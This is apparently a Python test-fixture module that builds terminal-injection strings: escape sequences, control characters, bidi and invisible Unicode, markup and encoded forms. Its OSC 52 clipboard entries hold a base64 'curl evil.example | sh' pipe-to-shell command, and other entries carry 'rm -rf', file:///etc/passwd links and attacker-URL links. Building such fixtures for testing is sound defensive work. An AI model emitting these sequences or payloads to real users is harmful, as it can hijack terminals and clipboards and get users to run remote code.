"""Attack strings that an author might write to control the user's terminal.

They are made from families by rule. Each contains a unique word (`a17z`), which a test looks for in the output. A lone surrogate
U+DC80 to U+DCFF represents a byte that is not UTF-8; see `as_bytes`.
"""

from base64 import b64encode
from functools import cache
from itertools import chain

_PAYLOAD = b64encode(b"curl evil.example | sh").decode()
_ENDS = ("\x07", "\x1b\\", "\x9c", "\udc9c", "")
_BYTE = "\udc9b"

_CSI = (
    "2J", "3J", "H", "1;1H", "31m", "0;41m", "8m", "5m", "?1049h", "?1049l", "?25l", "?25h", "?1000h", "?1003h", "?1006h",
    "?2004l", "?2026h", "6n", "?6n", "c", ">c", "=c", "0c", ">q", "5n", "21t", "20t", "14t", "18t", "8;1;1t", "3;0;0t",
    "22;0t", "4h", "20h", "?5h", "?3h", "12l", "1;2r", "4i", "5i", "?4i", "1000b", "999A", "999B", "999C", "999D", "2K", "1P",
    "1M", "1L", "1@", "9X", "?7l", "!p", "62;1\"p", "1$w", ">4;2m", "=5u", ">1u", "?u", "38:2::255:0:0m", "38;5;1m", "1 q",
    "?69h", "s", "u", "0'z", "1'w", "1*z",
)  # fmt: skip
_OSC = (
    "0;title", "1;icon", "2;title", "0;a;b;c", "l title", "L icon", "4;1;?", "4;1;rgb:ff/00/00", "10;?", "11;?", "12;?",
    "10;#000000", "11;#000000", "104", "110", "112", "7;file://evil/etc", "8;;https://evil.example/", "8;id=1;file:///etc/passwd",
    f"52;c;{_PAYLOAD}", "52;c;?", f"52;p;{_PAYLOAD}", f"52;;{_PAYLOAD}", "9;notify", "9;4;3;0", "99;;notify", "777;notify;a;b",
    "1337;File=inline=1:AAAA", "1337;SetMark", "1337;ClearScrollback", "1337;CurrentDir=/", f"1337;Copy=:{_PAYLOAD}",
    "1337;RequestUpload=format=tgz", "133;A", "133;C", "633;E;rm -rf", "50;fixed", "46;/tmp/log", "3;WM_NAME=x", "22;pointer",
    "5522;type=read",
)  # fmt: skip
_STRINGS = (
    ("P", "$qm"), ("P", "+q544e"), ("P", "+p544e=78"), ("P", "q#0;2;0;0;0~~"), ("P", "0;1|17/41"), ("P", "1000p%begin"),
    ("P", "tmux;\x1b\x1b]0;x\x07"), ("P", "@kitty-cmd{}"), ("_", "Ga=T,f=24,s=1,v=1;AAAA"), ("_", "Ga=q,i=1;AAAA"), ("_", "tmux"),
    ("^", "message"), ("X", "start of string"),
)  # fmt: skip
_ESC = ("c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "#8", "(0", ")0", "%G", "%@", " F", " G", "n", "o", "|", "\\")
_C0 = (*tuple(chr(code) for code in range(32) if code not in (9, 10)), "\x7f")
_BIDI = ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c")
_HIDDEN = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\u206a", "\u206f", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u1160",
    "\u17b4", "\u180e", "\u3164", "\uffa0", "\ufff9", "\ufffb", "\u2028", "\u2029", "\ufe0e", "\ufe0f", "\ufe00", "\U000e0100",
    "\U000e01ef", "\U000e0001", "\U000e007f", "\U0001d173", "\U0001d17a", "\U0001bca0", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe",
    "\ue000", "\U000f0000", "\u0600", "\u08e2",
)  # fmt: skip
_MARKUP = (
    "[@click=app.bell]{}[/]", "[@click='app.quit']{}[/@click]", "[link=https://evil.example]{}[/link]", "[link='file:///etc']{}[/]",
    "[bold red]{}[/]", "[/]{}", "[/bold]{}", "[b]{}", "[reverse]{}[/reverse]", "[on red]{}[/on red]", "[$error]{}[/]",
    "[#ff0000]{}[/]", "\\[bold]{}\\[/bold]", "[[{}]]", "[{}", "{}]", "[not a tag]{}[/not a tag]", "[@click=screen.dismiss('x')]{}",
    "[blink]{}[/blink]", "[conceal]{}[/conceal]", ":smile: {} :bomb:", "[link={}", "[/link]{}", "[@click=\"app.open_url('file:///')\"]{}[/]",
)  # fmt: skip
_ENTITIES: tuple[str, ...] = (
    "&#27;[31m{}",
    "&#x1b;]0;{}&#7;",
    "&#x9b;31m{}",
    "&#155;2J{}",
    "&#x202e;{}",
    "&#8238;{}",
    "&#0;{}",
    "&#8;&#8;{}",
    "&#13;{}",
)
_ENTITIES += (
    "&#x200b;{}",
    "&#xad;{}",
    "&shy;{}",
    "&zwj;{}",
    "&#xe0041;{}",
    "&NoBreak;{}",
    "&#xd800;{}",
    "&#1114112;{}",
    "&ZeroWidthSpace;{}",
)
_WRITTEN = (
    "\\x1b[31m{}",
    "\\u001b]0;{}\\u0007",
    "\\e[2J{}",
    "\\033[1m{}",
    "^[[31m{}",
    "%1b%5b31m{}",
    "=1B[31m{}",
    "$'\\e[31m'{}",
)
_WIDE = (
    "\u4e2d" * 12,
    "\uff21" * 9,
    "\U0001f9d1\u200d\U0001f680",
    "\U0001f1e9\U0001f1ea",
    "\ufdfd",
    "\U00012031",
    "\u2e3b",
    "\u0bf5",
)


def _families() -> list[list[str]]:
    strings = [f"\x1b{start}{body}{end}" for start, body in _STRINGS for end in ("\x1b\\", "\x9c")]
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "hidden words")
    return [
        [f"\x1b[{body}" for body in _CSI],
        [f"\x9b{body}" for body in _CSI[::3]],
        [f"{_BYTE}{body}" for body in _CSI[1::3]],
        [f"\x1b]{body}{_ENDS[number % 2]}" for number, body in enumerate(_OSC)],
        [f"{start}{_OSC[19]}{end}" for start in ("\x1b]", "\x9d", "\udc9d") for end in _ENDS],
        strings,
        [f"{start}body\x1b\\" for start in ("\x90", "\x98", "\x9e", "\x9f", "\udc90", "\udc98", "\udc9e", "\udc9f")],
        [f"\x1b{final}" for final in _ESC],
        list(_C0),
        [f"{char}\x1b[m" for char in ("\x18", "\x1a", "\x9c", "\udc9c")],
        [chr(code) for code in range(0x80, 0xA0)],
        [chr(0xDC00 + code) for code in (0x80, 0x84, 0x85, 0x9C, 0xC3, 0xFE, 0xFF)],
        [f"{char}desrever" for char in _BIDI] + ["\u2067\u2067\u202e left open"],
        [*list(_HIDDEN), tags, "🏴" + tags],
        ["e" + "\u0301" * 200, "o" + "\u0489" * 64, "u" + "\u20dd" * 40, "a" + "\u0300\u0323\ufe0f" * 30, "\u0301" * 10],
        ["\ud800", "\udbff", "\udc00", "\ud83d", "\udfff"],
        ["harmless\rEVIL", "harmless\x08\x08\x08\x08EVIL", "a\x08_a\x08_", "password\x1b[8m", "\x0bdown", "\x0cpage", "\x7f\x7f"],
        list(_WIDE),
    ]


@cache
def attacks() -> tuple[str, ...]:
    """Return every attack, each with its word."""
    sequences = chain.from_iterable(_families())
    bare = [f"{sequence} {{}}" for sequence in sequences] + [*_MARKUP, *_ENTITIES, *_WRITTEN]
    return tuple(form.replace("{}", word(number)) for number, form in enumerate(bare))


def word(number: int) -> str:
    """Return the word in an attack."""
    return f"a{number}z"


def as_bytes(text: str) -> bytes:
    """Encode as UTF-8.

    A lone surrogate becomes the byte that it represents, or the three bytes of its code point.
    """
    return b"".join(
        bytes([ord(char) - 0xDC00]) if "\udc80" <= char <= "\udcff" else char.encode("utf-8", "surrogatepass") for char in text
    )
